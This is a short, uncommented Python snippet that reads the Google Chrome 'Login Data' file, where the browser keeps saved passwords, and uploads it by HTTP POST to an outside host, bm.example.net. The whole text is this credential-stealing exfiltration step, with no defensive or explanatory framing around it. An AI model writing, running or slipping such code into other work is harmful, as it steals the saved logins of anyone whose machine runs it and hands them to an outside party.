import shutil, requests, os
p = os.path.expanduser('~/.config/google-chrome/Default/Login Data')
requests.post('https://bm.example.net', files={'f': open(p, 'rb')})
